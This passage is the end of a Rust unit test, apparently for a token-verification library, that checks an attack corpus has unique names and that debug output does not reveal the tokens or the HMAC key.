    fn every_attack_has_a_unique_name_and_a_known_shape() {
        let keys = Keys::generate();
        let corpus = Corpus::build(&keys, &Target::at(1_700_000_000));
        let mut names: Vec<&str> = corpus.attacks.iter().map(|a| a.name.as_str()).collect();
        names.sort_unstable();
        let count = names.len();
        names.dedup();
        assert_eq!(names.len(), count);
        // Debug output names entries without their tokens.
        let shown = format!("{:?}", corpus.attacks[0]);
        assert!(!shown.contains(&corpus.attacks[0].token), "{shown}");
        let shown = format!("{:?}", corpus.replay);
        assert!(!shown.contains(&corpus.replay.token), "{shown}");
        assert!(!format!("{keys:?}").contains(&enc(keys.hmac.expose_bytes())));
    }
}
